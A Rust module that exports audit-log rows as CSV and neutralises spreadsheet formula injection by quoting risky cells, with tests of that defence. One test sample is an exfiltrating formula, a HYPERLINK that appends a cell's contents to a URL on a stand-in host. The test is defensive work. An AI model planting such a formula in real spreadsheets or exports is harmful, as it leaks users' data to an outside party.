//! Rows of the trail as CSV (RFC 4180), for spreadsheets.
//!
//! A spreadsheet takes a cell that begins like a formula for one, and an administrator's reason can
//! hold anything, so such a cell is quoted. The seals are over the export as JSON lines, not this.

use csv::{Terminator, WriterBuilder};
use serde_json::{Map, Value};

/// The columns of CSV: those of every log.
pub(super) const COLUMNS: [&str; 31] = [
    "log",
    "seq",
    "recorded_at",
    "occurred_at",
    "event_id",
    "source",
    "event_type",
    "outcome_id",
    "outcome_type",
    "tenant_id",
    "user_id",
    "actor_id",
    "session_id",
    "method",
    "reason",
    "ip",
    "via",
    "policy_required",
    "admin_reason",
    "purpose",
    "number_ref",
    "country",
    "provider",
    "provider_ref",
    "result",
    "required",
    "grace_days",
    "required_before",
    "grace_days_before",
    "command",
    "detail",
];

/// The characters that a formula begins with, also the full-width ones of East Asian keyboards.
const FORMULA: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
];

/// Returns a row of the trail, with its line end.
pub(super) fn row(line: &str) -> Vec<u8> {
    let row: Map<String, Value> = serde_json::from_str(line).unwrap_or_default();
    let cells = COLUMNS.map(|column| match row.get(column) {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(value)) => without_formula(value),
        Some(other) => other.to_string(),
    });
    record(&cells)
}

/// Cells as a line, with its end.
pub(super) fn record<C: AsRef<[u8]>>(cells: &[C]) -> Vec<u8> {
    let mut writer = WriterBuilder::new()
        .terminator(Terminator::CRLF)
        .from_writer(Vec::new());
    writer.write_record(cells).expect("a Vec takes every byte");
    writer.into_inner().expect("a Vec is never full")
}

/// Returns the value as a cell that no spreadsheet computes.
fn without_formula(value: &str) -> String {
    if value.starts_with(FORMULA) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use csv::ReaderBuilder;
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;

    /// Returns the cell of a reason, as a spreadsheet reads it.
    fn cell(reason: &str) -> String {
        let line = json!({ "log": "reset_log", "seq": 7, "admin_reason": reason }).to_string();
        let row = row(&line);
        let mut reader = ReaderBuilder::new()
            .has_headers(false)
            .from_reader(row.as_slice());
        let record = reader.records().next().expect("a row").expect("CSV");
        assert_eq!(record.len(), COLUMNS.len());
        let at = COLUMNS.iter().position(|column| *column == "admin_reason");
        record[at.expect("the column")].to_owned()
    }

    #[test]
    fn a_row_has_a_cell_for_every_column() {
        let line = r#"{"log":"reset_log","seq":7,"admin_reason":"lost, \"stolen\"\nphone"}"#;
        let row = String::from_utf8(row(line)).expect("UTF-8");
        assert!(row.starts_with("reset_log,7,,"), "{row}");
        assert!(row.contains("\"lost, \"\"stolen\"\"\nphone\""), "{row}");
        assert!(row.ends_with(",\r\n"), "{row}");
        assert_eq!(cell("lost, \"stolen\"\nphone"), "lost, \"stolen\"\nphone");
    }

    #[test]
    fn a_formula_is_shown_without_formula() {
        for formula in [
            r#"=HYPERLINK("http://x.example/?"&A1,"open")"#,
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1+1",
        ] {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        for plain in ["", "lost phone", "'quoted'", "1-1", "a=b", " =1", "é"] {
            assert_eq!(cell(plain), plain);
        }
    }

    #[test]
    fn an_id_that_begins_like_a_formula_is_text_too_and_a_figure_is_none() {
        let line = r#"{"log":"login_log","seq":7,"user_id":"-1","tenant_id":"@x"}"#;
        let row = String::from_utf8(row(line)).expect("UTF-8");
        assert!(row.contains(",'@x,'-1,"), "{row}");
        let figure = String::from_utf8(super::row(r#"{"log":"policy_log","seq":-7}"#));
        assert!(figure.expect("UTF-8").starts_with("policy_log,-7,"));
    }

    proptest! {
        #[test]
        fn any_string_is_one_cell_and_no_formula(value in any::<String>()) {
            let cell = cell(&value);
            prop_assert!(!cell.starts_with(FORMULA));
            prop_assert_eq!(cell.strip_prefix('\'').filter(|_| cell != value).unwrap_or(&cell), &value);
        }
    }
}
